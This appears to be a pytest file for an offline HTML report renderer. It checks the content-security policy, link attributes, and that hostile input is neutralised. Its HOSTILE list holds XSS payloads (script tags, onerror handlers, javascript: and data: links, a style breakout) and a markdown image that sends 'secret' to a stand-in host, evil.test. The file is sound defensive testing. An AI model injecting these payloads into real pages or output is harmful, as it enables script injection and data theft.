"""The HTML page: it opens offline, shows the report and lets nothing that a source says come alive."""

import base64
import hashlib
import re
from html.parser import HTMLParser
from typing import Any

import pytest

from nodes.text.html import html_page
from state.answer import Answer
from state.guarded import Spent

REPORT = """# When?

> **Complete.**
> No language model was used.

## Answer

- “Built in 1932.” [1] (line 1), verbatim \\[2\\]

## Sources

1. **Herald**, <https://example.org/a?b=c>
2. **Ledger**, ledger.txt
"""


class Tags(HTMLParser):
    """Every tag with its attributes, in order."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.found.append((tag, dict(attrs)))

    def named(self, tag: str) -> list[dict[str, str | None]]:
        return [attributes for name, attributes in self.found if name == tag]


def page(report: str = REPORT, **more: Any) -> str:
    return html_page(
        Answer(**{"question": "When?", "outcome": "complete", "mode": "extractive", "report": report, **more})
    )


def test_citations_lead_to_their_source_and_verbatim_brackets_do_not() -> None:
    tags = Tags(page())
    assert [link["href"] for link in tags.named("a")] == ["#source-1", "https://example.org/a?b=c"]
    assert [entry["id"] for entry in tags.named("li") if "id" in entry] == ["source-1", "source-2"]


def test_links_out_tell_nobody_where_they_come_from() -> None:
    (out,) = [link for link in Tags(page()).named("a") if str(link["href"]).startswith("http")]
    assert out["rel"] == "noopener noreferrer"


def test_the_foot_says_what_the_run_used_and_how_to_find_it() -> None:
    spent = Spent(calls=3, input_tokens=1_000, output_tokens=200, dollars=0.0123, seconds=4.0)
    assert "3 model calls, 1,200 tokens, $0.0123, 4.0 s, run r7" in page(id="r7", spent=spent)


def test_nothing_is_loaded_and_the_policy_names_the_one_style() -> None:
    text = page()
    tags = Tags(text)
    assert not {"script", "img", "link", "iframe", "object", "form"} & {tag for tag, _ in tags.found}
    policy = next(meta["content"] for meta in tags.named("meta") if meta.get("http-equiv") == "Content-Security-Policy")
    style = re.search(r"<style>(.*?)</style>", text, re.DOTALL)
    assert style and "url(" not in style[1] and "@import" not in style[1]
    digest = base64.b64encode(hashlib.sha256(style[1].encode()).digest()).decode()
    assert policy == f"default-src 'none'; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](http://evil.test/?q=secret)",
    "[x](javascript:alert(1))",
    "[x](data:text/html,y)",
    "[x](//evil.test)",
    "[x][y]\n\n[y]: http://evil.test",
    "</style><script>alert(1)</script>",
    "{digest} {body} {0}",
]


@pytest.mark.parametrize("words", HOSTILE)
def test_hostile_words_are_inert_even_where_the_report_did_not_escape_them(words: str) -> None:
    tags = Tags(page(f"# {words}\n\n- {words}\n\n{words}\n", question=words))
    assert not {"script", "img", "iframe"} & {tag for tag, _ in tags.found}
    assert len(tags.named("style")) == 1
    for link in tags.named("a"):
        assert not re.match(r"javascript|data|//", str(link.get("href") or ""))
    assert not [key for _, attributes in tags.found for key in attributes if key.startswith("on")]


@pytest.mark.parametrize("outcome", ["complete", "partial", "refused", "stopped"])
def test_the_outcome_colours_the_page(outcome: str) -> None:
    assert Tags(page(outcome=outcome)).named("body") == [{"class": outcome}]
